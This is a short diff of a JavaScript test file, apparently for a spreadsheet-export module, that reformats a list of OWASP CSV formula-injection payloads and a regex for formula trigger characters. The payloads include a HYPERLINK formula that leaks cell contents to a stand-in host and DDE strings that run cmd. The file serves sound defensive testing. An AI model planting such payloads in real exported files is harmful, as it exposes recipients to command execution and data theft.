@@ -16,7 +16,14 @@ import { resultFiles } from '../../src/output/solveFiles.js';
 import { fixedColumn, makeModel, testGrid } from '../helpers/model.js';
 
 // The payloads of the OWASP page and the trial of issue 9: every trigger character the guidance lists.
-const HOSTILE = ['=HYPERLINK("http://example.invalid/?"&A1,"x")', '+1+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1'];
+const HOSTILE = [
+  '=HYPERLINK("http://example.invalid/?"&A1,"x")',
+  "+1+cmd|' /C calc'!A0",
+  "-2+3+cmd|' /C calc'!A0",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  '\t=1+1',
+  '\r=1+1',
+];
 
 /** A cell is safe when a spreadsheet shows it as text: it does not begin with a formula trigger after unquoting. */
 const TRIGGER = /^[=+\-@\t\r]/;
